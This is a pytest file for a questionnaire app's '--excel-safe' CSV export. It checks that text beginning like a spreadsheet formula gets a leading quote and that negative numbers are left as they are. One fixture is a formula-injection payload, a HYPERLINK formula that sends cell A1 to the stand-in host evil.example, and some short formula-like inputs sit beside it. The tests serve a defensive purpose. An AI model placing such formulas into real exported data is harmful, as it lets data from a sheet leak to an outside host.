"""The Excel-safe CSV option: text that a spreadsheet would run as a formula gets a quote."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from pro_app.catalog import catalog_for
from pro_app.cli.export import export_command
from pro_app.exports.csv_writers import excel_safe_cell, write_long
from pro_app.exports.model import ExportRecord, ScoreValue

from .factories import answer, complete, enrol, make_app

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")'
# study code -> the free-text answer, and what --excel-safe writes for it
TEXTS = {
    "BTB-0001": (HYPERLINK, "'" + HYPERLINK),
    "BTB-0002": ("+1", "'+1"),
    "BTB-0003": ("@x", "'@x"),
    "BTB-0004": ("-x", "'-x"),
    "BTB-0005": ("-12", "-12"),  # reads as a negative number: left alone
    "BTB-0006": ("Akupunktur = bra", "Akupunktur = bra"),  # not at the start
}
TEXT_ITEM = "bg_former_treatment_other"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1", "'+1"),
        ("@x", "'@x"),
        ("-x", "'-x"),
        ("=1+1", "'=1+1"),
        ("\tx", "'\tx"),
        ("\r=x", "'\r=x"),
        ("-1\n=cmd", "'-1\n=cmd"),
        ("-", "'-"),
        ("-1.5", "-1.5"),
        ("-3", "-3"),
        ("-1e-05", "-1e-05"),
        ("-0.30000000000000004", "-0.30000000000000004"),
        ("12", "12"),
        ("tekst", "tekst"),
        ("", ""),
        (None, None),
        (-3, -3),
    ],
)
def test_cells_that_start_like_a_formula_get_a_quote(value, expected):
    assert excel_safe_cell(value) == expected


def record(**changes) -> ExportRecord:
    values = dict(
        study_code="BTB-0001",
        site="OUS",
        timepoint="screening",
        target_day="2026-01-01",
        first_day="2026-01-01",
        last_day="2026-01-08",
        questionnaire="toy",
        definition_version="1",
        definition_hash="h",
        response_uuid="u",
        response_version=1,
        status="submitted",
        started_at="2026-01-01T10:00:00.000000Z",
        submitted_at="2026-01-01T10:05:00.000000Z",
        actual_date="2026-01-01",
        items={"temperature": -3, "note": "-x", "formula": "=1+1"},
        scores={"change": ScoreValue(-1.5), "delta": ScoreValue(-0.1 - 0.2)},
    )
    return ExportRecord(**(values | changes))


@pytest.mark.parametrize("excel_safe", [False, True])
def test_negative_numbers_are_left_alone_and_text_is_quoted(excel_safe):
    stream = io.StringIO(newline="")
    write_long(stream, [record()], excel_safe=excel_safe)
    rows = {r["item"]: r["value"] for r in csv.DictReader(io.StringIO(stream.getvalue()))}
    assert rows["temperature"] == "-3"
    assert rows["change"] == "-1.5" and rows["delta"] == repr(-0.1 - 0.2)
    assert rows["note"] == ("'-x" if excel_safe else "-x")
    assert rows["formula"] == ("'=1+1" if excel_safe else "=1+1")


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    app = make_app(tmp_path_factory.mktemp("excel") / "x.sqlite")
    app.cli.add_command(export_command)
    with app.app_context():
        background = catalog_for(app).questionnaires["background"]
    for code, (text, _) in TEXTS.items():
        enrol(app, code)
        given = {"bg_former_treatment": [6], TEXT_ITEM: text}
        answer(app, code, "baseline", "background", complete(background, given))
    return app


def export(app, path, fmt, *args):
    result = app.test_cli_runner().invoke(args=["export", "--format", fmt, "-o", str(path), *args])
    assert result.exit_code == 0, result.output
    return path


def read_csv(path, delimiter=","):
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def read_pandas(path, delimiter=","):
    frame = pd.read_csv(path, sep=delimiter, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    return frame.to_dict("records")


@pytest.mark.parametrize("fmt", ["csv-wide", "csv-long"])
@pytest.mark.parametrize("options", [[], ["--delimiter", ";", "--bom"]])
def test_the_command_option_end_to_end(app, tmp_path, fmt, options):
    delimiter = ";" if options else ","
    plain = export(app, tmp_path / "plain.csv", fmt, *options)
    safe = export(app, tmp_path / "safe.csv", fmt, "--excel-safe", *options)
    for reader in (read_csv, read_pandas):
        before, after = reader(plain, delimiter), reader(safe, delimiter)
        assert len(before) == len(after) > 0
        if fmt == "csv-wide":
            texts = [
                (r["study_code"], r[TEXT_ITEM], s[TEXT_ITEM])
                for r, s in zip(before, after, strict=True)
            ]
        else:
            texts = [
                (r["study_code"], r["value"], s["value"])
                for r, s in zip(before, after, strict=True)
                if r["item"] == TEXT_ITEM
            ]
        assert {code: (b, a) for code, b, a in texts} == TEXTS
        # Nothing else changes.
        column = TEXT_ITEM if fmt == "csv-wide" else "value"
        for b, a in zip(before, after, strict=True):
            if fmt == "csv-long" and b["item"] != TEXT_ITEM:
                assert a == b
            else:
                assert {k: v for k, v in a.items() if k != column} == {
                    k: v for k, v in b.items() if k != column
                }
    assert safe.read_bytes() != plain.read_bytes()


def test_without_the_option_the_text_is_written_as_given(app, tmp_path):
    path = export(app, tmp_path / "w.csv", "csv-wide")
    assert HYPERLINK.replace('"', '""') in path.read_text(encoding="utf-8")
    assert {r["study_code"]: r[TEXT_ITEM] for r in read_csv(path)} == {
        code: text for code, (text, _) in TEXTS.items()
    }
